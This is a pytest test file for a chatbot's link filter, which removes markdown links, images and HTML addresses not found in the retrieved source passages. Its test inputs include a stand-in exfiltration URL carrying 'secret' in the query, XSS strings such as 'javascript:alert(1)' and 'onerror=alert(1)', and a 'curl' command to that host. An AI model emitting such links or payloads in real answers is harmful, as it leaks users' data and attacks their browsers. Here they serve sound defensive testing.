"""Which links and images survive in an answer."""

from __future__ import annotations

import html
import random
import re
from collections.abc import Sequence
from urllib.parse import unquote

import pytest
from markdown_it import MarkdownIt

from chatbot.rag.grounding.known_urls import Addresses
from chatbot.rag.grounding.link_filter import LONGEST_CODE, LONGEST_TEXT, LinkFilter
from chatbot.rag.types import Passage

EVIL = "https://evil.example/q?d=secret"
TEXT = (
    "See https://ok.example/a. The [guide](docs/a.md) and https://ok.example/wiki/Foo_(bar) say more. "
    '![A picture](https://ok.example/i.png) <a href="https://ok.example/tag">x</a> [bad](javascript:alert(1))\n'
    "[named]: https://ok.example/named"
)
KNOWN = Addresses([TEXT])


def filtered(text: str, sizes: Sequence[int] = (10_000,)) -> str:
    """What is left of an answer that arrives in pieces of these sizes, again and again."""
    links, out, n = LinkFilter(KNOWN), [], 0
    while text:
        size = sizes[n % len(sizes)]
        out.append(links.feed(text[:size]))
        text, n = text[size:], n + 1
    return "".join(out) + links.end()


CASES = [
    ("The shop opens at nine [1][2]. It is (so) said.", "The shop opens at nine [1][2]. It is (so) said."),
    (f"Look: ![a picture]({EVIL}) there.", "Look: a picture there."),
    (f"Read [the page]({EVIL}).", "Read the page."),
    (f'Read [the page]({EVIL} "a ) title") now.', "Read the page now."),
    ("Run [this](javascript:alert(1)) [and](JaVa&#115;cript:x) [that](data:text/html,x).", "Run this and that."),
    ("Read [the guide](docs/a.md), not [that](docs/b.md).", "Read [the guide](docs/a.md), not that."),
    (
        "![A](https://ok.example/i.png) [t](<https://ok.example/a> 'x')",
        "![A](https://ok.example/i.png) [t](https://ok.example/a)",
    ),
    (f"See {EVIL}, or https://ok.example/a.", "See evil.example, or https://ok.example/a."),
    (
        "(https://ok.example/wiki/Foo_(bar)) https://ok.example/a/",
        "(https://ok.example/wiki/Foo_(bar)) https://ok.example/a/",
    ),
    ("https://ok.example/a?d=secret https://ok.example.evil.example/a", "ok.example ok.example.evil.example"),
    ("https://ok.example/tag https://ok.example/named", "https://ok.example/tag https://ok.example/named"),
    ("www.evil.example/q mailto:a@evil.example?body=x //evil.example/q", "evil.example a@evil.example evil.example"),
    (f"<{EVIL}> <https://ok.example/a> <a@b.example>", "evil.example <https://ok.example/a> a@b.example"),
    (f"<img src={EVIL}> <b>bold</b><script>x</script>", " bold x "),
    ("Vec<T> and <your-key> with a < b, 1 <2 and <3", "Vec<T> and <your-key> with a < b, 1 <2 and <3"),
    ("<x onclick=alert(1)> <img/src=x onerror=alert(1)>", "< x onclick=alert(1)> "),
    (f"[1]({EVIL}) says so [2](see there).", "[1] says so [2] (see there)."),
    (f"![a][x]\n\n[x]: {EVIL}\n", "![a][x]\n\n[x] : evil.example\n"),
    (f"`a {EVIL}` x\n```sh\na {EVIL} <b>\n```\n{EVIL}", f"`a {EVIL}` x\n```sh\na {EVIL} <b>\n```\nevil.example"),
    (f"1. Do:\n   ```sh\n   curl {EVIL}\n   ```\n2. [x]({EVIL})", f"1. Do:\n   ```sh\n   curl {EVIL}\n   ```\n2. x"),
    (f"参见{EVIL}了解。https://ok.example/a了解", "参见evil.example 了解。https://ok.example/a 了解"),
    (f"An end in the middle of [a link]({EVIL}", "An end in the middle of [a link] (evil.example"),
    (
        "Half open [0, 10) and // a comment, ssh://git.example/x",
        "Half open [0, 10) and // a comment, ssh://git.example/x",
    ),
]
# What a filter that looks at one thing at a time would put together itself.
ASSEMBLED = [
    ("[x]\n\n[x]<b>: //evil", "[x]\n\n[x] : //evil"),
    ("www [9].evil.example/q and nine [9].", "www [9] .evil.example/q and nine [9]."),
    (
        "ht[9]tps://evil.example <[9]img src=x> www【9】.evil.example",
        "ht[9] tps://evil.example <[9] img src=x> www【9】 .evil.example",
    ),
    (f"ht<b>t{EVIL[3:]}", f"ht t{EVIL[3:]}"),
    ("ht[tps:](x)//evil.example/q", "ht tps: evil.example"),
    (f"[[a](x)]({EVIL})", " a"),
    (f"[a](x)({EVIL})", "a (evil.example)"),
    (f"![![x]({EVIL})](https://ok.example/i.png)", "![ x](https://ok.example/i.png)"),
    ("[www](x).evil.example/q", "www .evil.example/q"),
    ("https:\\//evil.example/q", "https:\\ evil.example"),
    (f"\\`![x]({EVIL})\\`", "\\` x \\`"),
    (f"``\n`` ![x]({EVIL}) ``", "``\n`` x ``"),
    (f"- ```\n  a\n  ```\n![x]({EVIL})", "- ```\n  a\n  ```\nx"),
    (f"  ```\n  a\nb\n```\n![x]({EVIL})", "  ```\n  a\nb\n```\nx"),
    (f"<T>\n```\n\n![x]({EVIL})\n", f"< T>\n```\n\n![x]({EVIL})\n"),
    (f"<https:{EVIL}>", ""),
    ("[www.secret1.evil.example]", "[ secret1.evil.example ]"),
]


@pytest.mark.parametrize(("answer", "left"), CASES + ASSEMBLED, ids=range(len(CASES + ASSEMBLED)))
def test_only_links_and_images_of_the_passages_survive(answer: str, left: str) -> None:
    """J7"""
    assert filtered(answer).rstrip() == left.rstrip()
    for sizes in [(1,), (2, 5), (7, 1, 3)]:
        assert filtered(answer, sizes) == filtered(answer)


FRAGMENTS = [
    "[",
    "]",
    "(",
    ")",
    "!",
    "<",
    ">",
    "`",
    "``",
    "```",
    "~~~",
    "\n",
    "\n\n",
    " ",
    "  ",
    "    ",
    "- ",
    "> ",
    "1. ",
    "|",
    "\\",
    "*",
    ":",
    "/",
    "//",
    '"',
    "'",
    "a",
    "http",
    "https:",
    "www.",
    ".",
    EVIL,
    EVIL,
    f"]({EVIL})",
    f"![x]({EVIL})",
    f"<img src={EVIL}>",
    f'<a href="{EVIL}">',
    f"[x]: {EVIL}",
    "[x]",
    "<b>",
    "</b>",
    "<div>",
    "</div>",
    "<T>",
    "<!--",
    "-->",
    "<?",
    "https://ok.example/a",
    "[guide](docs/a.md)",
    f"<{EVIL}>",
    "[1]",
    "| a | b |\n|---|---|\n",
    "<pre>",
]
ATTRIBUTE = re.compile(r"<(?:a|img)\b[^>]*?(?:href|src)\s*=\s*[\"']?([^\"'\s>]*)", re.IGNORECASE)


@pytest.mark.parametrize("seed", range(8))
def test_no_reader_of_markdown_finds_another_address_in_what_is_left(seed: int) -> None:
    """J7"""
    reader = MarkdownIt("commonmark", {"html": True}).enable("table")
    chance = random.Random(seed)
    for _ in range(250):
        answer = "".join(chance.choice(FRAGMENTS) for _ in range(chance.randint(2, 22)))
        left = filtered(answer, [chance.randint(1, 9) for _ in range(7)])
        assert left == filtered(answer), answer
        found = {unquote(html.unescape(address)).rstrip("/") for address in ATTRIBUTE.findall(reader.render(left))}
        assert found <= {"https://ok.example/a", "docs/a.md"}, answer


def test_what_was_taken_out_is_counted() -> None:
    links = LinkFilter(KNOWN)

    links.feed(f"[a]({EVIL}) {EVIL} <b>c</b> [guide](docs/a.md) `{EVIL}` [1]")
    links.end()

    assert links.removed == 4


def test_plain_words_are_not_held_back() -> None:
    links = LinkFilter(KNOWN)

    assert [links.feed(word) for word in ("The ", "shop ", "opens", " [1]", ". ", "a < b ", "*so*")] == [
        "The ",
        "shop ",
        "opens",
        " ",
        "[1]. ",
        "a < b ",
        "*so*",
    ]


@pytest.mark.parametrize("begin", ["[", "`", "<a ", "https://evil.example/"], ids=["link", "code", "tag", "address"])
def test_what_never_ends_is_not_held_for_ever(begin: str) -> None:
    links = LinkFilter(KNOWN)

    out = "".join(links.feed(piece) for piece in [f"x {begin}", *["word" if begin[0] == "h" else "word "] * 800])

    assert len(out) > max(LONGEST_TEXT, LONGEST_CODE)


def test_without_a_passage_no_address_is_known() -> None:
    links = LinkFilter(Addresses.of([]))

    assert links.feed("See https://ok.example/a [x](docs/a.md) ") == "See ok.example x "


def test_where_a_document_comes_from_is_known() -> None:
    passage = Passage(1, "d", "T", "https://ok.example/source", 1, 1, None, 0, 1, "x", {})

    assert "https://OK.example/source/" in Addresses.of([passage])
